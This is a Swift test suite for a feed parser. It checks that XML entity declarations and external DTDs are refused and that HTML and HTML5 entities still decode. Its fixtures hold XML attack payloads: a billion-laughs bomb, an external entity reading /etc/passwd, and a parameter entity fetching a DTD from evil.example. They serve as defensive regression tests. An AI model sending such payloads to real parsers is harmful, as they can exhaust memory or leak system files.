import Foundation
import Testing
import FeedParsing

@Suite struct EntityTests {
    @Test func refusesBillionLaughs() {
        let document = """
            <?xml version="1.0"?>
            <!DOCTYPE lolz [
              <!ENTITY lol "lol">
              <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
              <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
              <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
              <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
              <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
              <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
              <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
              <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
            ]>
            <rss version="2.0"><channel><title>&lol9;</title></channel></rss>
            """
        #expect(parseError(document) == .declaresEntities)
    }

    @Test func refusesAnExternalEntity() {
        let document = """
            <?xml version="1.0"?>
            <!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
            <rss version="2.0"><channel><title>&secret;</title></channel></rss>
            """
        #expect(parseError(document) == .declaresEntities)
    }

    @Test func refusesAParameterEntityBehindAComment() {
        let document = """
            <?xml version="1.0"?>
            <!-- <a> --><!DOCTYPE rss [ <!-- ] > --> <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]>
            <rss version="2.0"><channel/></rss>
            """
        #expect(parseError(document) == .declaresEntities)
    }

    @Test func anExternalDTDOnDiskIsNotRead() throws {
        let folder = FileManager.default.temporaryDirectory.appending(path: "feedparsing-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let dtd = folder.appending(path: "leak.dtd")
        try Data("<!ENTITY secret \"LEAKED\">".utf8).write(to: dtd)
        let document = """
            <?xml version="1.0"?>
            <!DOCTYPE rss SYSTEM "\(dtd.absoluteString)">
            <rss version="2.0"><channel><title>x&secret;</title></channel></rss>
            """
        let title = try? parseFeed(document).title
        #expect(title?.contains("LEAKED") != true)
    }

    @Test func anExternalDTDIsNotFetched() throws {
        // Without entity declarations the document reads; nothing is loaded from the address.
        let feed = try parseFeed("""
            <?xml version="1.0"?>
            <!DOCTYPE rss SYSTEM "http://127.0.0.1:9/rss.dtd">
            <rss version="0.91"><channel><title>T</title></channel></rss>
            """)
        #expect(feed.title == "T")
    }

    @Test func htmlEntitiesWithoutADTDAreRead() throws {
        let feed = try parseFeed("""
            <rss version="2.0"><channel><title>a&nbsp;b &mdash; &eacute;&amp;&#65;</title>
            <item><description>&lt;p&gt;x&hellip;&lt;/p&gt;</description></item></channel></rss>
            """)
        #expect(feed.title == "a\u{A0}b — é&A")
        #expect(feed.items.first?.summary == "<p>x…</p>")
    }

    /// Every HTML5 name, not only HTML 4's: one that is two characters, and the longest.
    @Test func html5EntitiesWithoutADTDAreRead() throws {
        let feed = try parseFeed("""
            <rss version="2.0"><channel><title>&check;&NotEqualTilde;&CounterClockwiseContourIntegral;</title></channel></rss>
            """)
        #expect(feed.title == "✓\u{2242}\u{338}∳")
    }

    /// As a browser shows an unknown reference: as written.
    @Test func anEntityNoOneKnowsIsReadAsText() throws {
        let feed = try parseFeed("<rss version=\"2.0\"><channel><title>a&nbsp;&bogus;b</title></channel></rss>")
        #expect(feed.title == "a\u{A0}&bogus;b")
    }

    @Test func theErrorSaysWhy() {
        #expect(FeedParseError.declaresEntities.description
            == "the document declares XML entities, which no feed needs and which are refused for safety")
    }
}
